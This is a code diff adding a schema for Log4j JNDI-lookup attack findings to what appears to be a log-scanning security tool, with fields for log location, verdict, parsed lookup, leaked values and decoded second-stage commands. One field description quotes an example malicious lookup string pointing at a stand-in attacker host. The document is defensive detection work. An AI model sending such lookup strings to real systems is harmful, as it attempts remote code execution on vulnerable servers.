@@ -1,5 +1,5 @@
 import { z } from 'zod'
-import { rungs } from '../core/index.ts'
+import { outcomes, rungs } from '../core/index.ts'
 
 /** @internal Moments in every shape of the contract. */
 export const moment = z.iso.datetime().describe('ISO 8601, UTC')
@@ -132,6 +132,63 @@ const componentSchema = z
   })
   .describe('A library found in files, and what each advisory says of it')
 
+const attackEvidence = z.discriminatedUnion('kind', [
+  z.object({
+    kind: z.literal('log'),
+    source: z.string(),
+    line: z.int().min(1).nullable(),
+    byteOffset: z.int().min(0),
+    says,
+    text: z.string().describe('The record itself, shortened'),
+  }),
+  z.object({
+    kind: z.literal('decoding'),
+    layers: z.array(z.string()).describe('What was undone, the outermost first'),
+    text: z.string(),
+  }),
+])
+
+const lookup = z.object({
+  raw: z.string().describe('As written, shortened where it is very long'),
+  meaning: z.string().describe('What a vulnerable Log4j looks up: jndi:ldap://evil.example:1389/a'),
+  scheme: z.string().nullable(),
+  host: z.string().nullable(),
+  port: z.int().min(0).nullable().describe('As written: there are names with ports that do not exist'),
+  path: z.string().nullable(),
+  domain: z.string().nullable().describe('Of ldap:///dc=…: the domain whose SRV records are asked for the server'),
+  reads: z.array(z.string()).describe('Values of the process that are read on the way'),
+  times: z.int().min(0).describe('Lookups for one logged message'),
+})
+
+const attackSchema = z
+  .object({
+    ...claim,
+    kind: z.literal('attack'),
+    at: z.object({
+      source: z.string().describe('The log; each ! is one level of nesting, - is standard input'),
+      line: z.int().min(1).nullable(),
+      byteOffset: z.int().min(0).describe('Of the record, in the innermost file, unpacked'),
+    }),
+    when: moment.nullable().describe('As the record says'),
+    from: z.string().nullable().describe('The address it came from, as the record says'),
+    request: z.string().nullable(),
+    userAgent: z.string().nullable(),
+    field: z.string().nullable(),
+    format: z.string(),
+    verdict: z.enum(['fires', 'attempt', 'dos', 'evidence']),
+    because: z.string(),
+    firesOn: z.array(z.enum(['A', 'B', 'C', 'D'])).describe('Bands of releases'),
+    needsJdk: z.enum(['legacy', 'compat']).nullable(),
+    lookup,
+    traits: z.array(z.enum(['laundering', 'suppression', 'truncated', 'cut'])),
+    leaks: z.array(z.object({ read: z.string(), into: z.string(), secret: z.boolean() })),
+    carries: z.array(z.string()).describe('Commands and addresses of a second stage, decoded, defanged'),
+    outcome: z.enum(outcomes),
+    scanner: z.string().nullable(),
+    evidence: z.array(attackEvidence).min(1),
+  })
+  .describe('An attack on a lookup, or the trace of one that was evaluated, in a log')
+
 /**
  * A finding, whatever the format. Only ever extended within `/1`: readers must bear members, and kinds, that they do
  * not know.
@@ -139,5 +196,5 @@ const componentSchema = z
  * @public
  */
 export const findingSchema = z
-  .discriminatedUnion('kind', [exposureSchema, componentSchema])
+  .discriminatedUnion('kind', [exposureSchema, componentSchema, attackSchema])
   .describe('A claim about one subject, with everything it rests on')
